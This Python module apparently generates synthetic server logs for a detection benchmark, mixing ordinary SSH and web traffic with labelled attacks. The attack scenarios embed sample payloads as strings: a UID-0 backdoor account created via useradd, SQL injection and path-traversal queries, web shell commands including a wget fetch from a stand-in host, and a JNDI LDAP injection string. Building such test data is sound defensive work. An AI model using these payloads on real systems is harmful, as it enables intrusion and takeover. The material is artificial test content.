"""Nights of shells and of the web: guessing, many against one, a web shell, a campaign."""

from benchmarks.accuracy.night.made import STAFF, Night, request, syslog


def ordinary_shells(night: Night, hosts: tuple[str, ...] = ("web1", "db1")) -> None:
    """Cron, a backup by key, monitoring that only knocks, staff at work, an admin who mistypes twice."""
    dice = night.dice
    for n in range(0, 480, 10):
        host = hosts[n // 10 % len(hosts)]
        syslog(night, n, host, f"CRON[{2000 + n}]: (root) CMD (/usr/lib/sysstat/sa1 1 1)")
        syslog(
            night,
            n + 0.5,
            host,
            f"sshd[{3000 + n}]: Accepted publickey for backup from 10.0.0.20 port {40000 + n} ssh2",
        )
        syslog(
            night,
            n + 0.6,
            host,
            f"sshd[{3000 + n}]: pam_unix(sshd:session): session opened for user backup(uid=34) by (uid=0)",
        )
        syslog(
            night, n + 2.0, host, f"sshd[{3000 + n}]: pam_unix(sshd:session): session closed for user backup"
        )
        syslog(
            night,
            n + 1.3,
            host,
            f"sshd[{5000 + n}]: Connection closed by 10.0.0.9 port {50000 + n} [preauth]",
        )
        syslog(night, n + 3.1, host, "systemd[1]: Started Session 81 of user backup.")
    for n in range(40):
        who, minute = dice.choice(STAFF), dice.uniform(0, 470)
        syslog(
            night,
            minute,
            dice.choice(hosts),
            f"sshd[{7000 + n}]: Accepted password for {who} from 10.0.1.{dice.randrange(10, 60)} port {41000 + n} ssh2",
        )
    for n, said in enumerate(("Failed password", "Failed password", "Accepted password")):
        syslog(night, 95 + n / 6, hosts[0], f"sshd[8111]: {said} for tom from 10.0.1.23 port 41922 ssh2")
    syslog(
        night,
        97,
        hosts[0],
        "sudo:      tom : TTY=pts/1 ; PWD=/home/tom ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
    )


_BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0"


def _ordinary_web(night: Night, number: int = 700) -> None:
    """Readers, a crawler with its 404s, a CDN's edge through which many come, monitoring, a scanner of our own."""
    dice = night.dice
    pages = (
        "/",
        "/prices",
        "/about",
        "/blog/2026/02/spring",
        "/search?q=shoes",
        "/cart",
        "/static/app.js",
        "/login",
    )
    for _ in range(number):
        who = dice.choice(("198.51.100.200", f"192.0.2.{dice.randrange(1, 120)}"))
        request(
            night,
            dice.uniform(0, 479),
            who,
            f"GET {dice.choice(pages)}",
            200,
            _BROWSER,
            size=dice.randrange(200, 90_000),
        )
    for n in range(0, 480, 5):
        request(night, n, "10.0.0.9", "GET /health", 200, "Blackbox Exporter/0.24")
    for _ in range(25):
        request(
            night,
            dice.uniform(0, 479),
            "192.0.2.201",
            f"GET /old/{dice.randrange(12)}.html",
            404,
            "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example/)",
        )
    for _ in range(12):
        request(night, dice.uniform(0, 479), "198.51.100.200", "GET /favicon.ico", 404, _BROWSER)
    for _ in range(6):
        request(
            night, dice.uniform(0, 479), f"192.0.2.{dice.randrange(1, 120)}", "POST /login", 401, _BROWSER
        )


def guessing(night: Night) -> None:
    ordinary_shells(night)
    bad, minute = "203.0.113.77", 190.0
    for n in range(60):
        user = night.dice.choice(("root", "admin", "oracle", "backup", "deploy", "git"))
        unknown = "invalid user " if user in ("oracle", "git") else ""
        minute += 0.3
        syslog(
            night,
            minute,
            "web1",
            f"sshd[{9000 + n}]: Failed password for {unknown}{user} from {bad} port {33000 + n} ssh2",
            "guess",
        )
    syslog(
        night,
        minute + 1,
        "web1",
        f"sshd[9100]: Accepted password for deploy from {bad} port 33999 ssh2",
        "guess",
    )
    syslog(
        night,
        minute + 3,
        "web1",
        "sudo:   deploy : TTY=pts/3 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/sbin/useradd -o -u 0 helper",
        "guess",
    )
    syslog(
        night,
        minute + 3.2,
        "web1",
        "useradd[9177]: new user: name=helper, UID=0, GID=0, home=/home/helper, shell=/bin/bash, from=/dev/pts/3",
        "guess",
    )


def many_to_one(night: Night) -> None:
    """One account, many addresses, two tries each, slowly."""
    ordinary_shells(night)
    for n in range(45):
        for again in range(2):
            syslog(
                night,
                100 + n * 4 + again,
                "web1",
                f"sshd[{9000 + n}]: Failed password for admin from 203.0.113.{n + 10} port {42000 + n} ssh2",
                "spray",
            )


def web_shell(night: Night) -> None:
    _ordinary_web(night)
    bad, agent, minute = "203.0.113.90", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", 210.0
    for n in range(45):
        minute += 0.05
        path = night.dice.choice(
            ("admin", "backup", "old", "test", "wp", "phpmyadmin", "manager", ".git", ".env", "console")
        )
        request(night, minute, bad, f"GET /{path}{n if n % 3 else ''}/{n}.php", 404, agent, "shell")
    for n, query in enumerate(
        (
            "1%27%20OR%201%3D1--",
            "1 UNION SELECT user,pass FROM users".replace(" ", "%20"),
            "..%2f..%2f..%2fetc%2fpasswd",
        )
    ):
        request(night, minute + 1 + n, bad, f"GET /item?id={query}", 200, agent, "shell")
    request(night, minute + 5, bad, "POST /upload.php", 200, agent, "shell")
    for n, command in enumerate(("id", "uname%20-a", "cat%20/etc/passwd", "wget%20http://203.0.113.91/k.sh")):
        request(night, minute + 6 + n, bad, f"GET /uploads/img8.php?cmd={command}", 200, agent, "shell")
    for n in range(30):  # our own scanner, from inside
        request(night, 60 + n / 20, "10.0.0.77", f"GET /check{n}/", 404, "Nessus SOAP v0.0.1 (Nessus.org)")


def campaign(night: Night) -> None:
    """The same hole tried once or twice by many addresses."""
    _ordinary_web(night)
    for n in range(24):
        for again in range(1 + n % 2):
            request(
                night,
                200 + n * 3 + again,
                f"203.0.113.{n + 20}",
                "GET /?x=${jndi:ldap://203.0.113.200:1389/a}",
                404,
                "curl/8.4.0",
                "campaign",
            )
